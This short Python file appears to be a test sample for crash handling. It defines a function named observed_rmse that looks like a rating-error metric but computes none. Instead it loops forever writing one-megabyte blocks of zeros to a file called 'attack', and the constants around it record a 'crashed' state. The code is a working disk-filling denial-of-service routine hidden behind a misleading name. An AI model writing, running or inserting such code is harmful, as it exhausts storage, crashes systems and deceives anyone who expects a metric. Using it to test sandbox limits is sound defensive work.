"""Writes a file without end."""

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    with open("attack", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
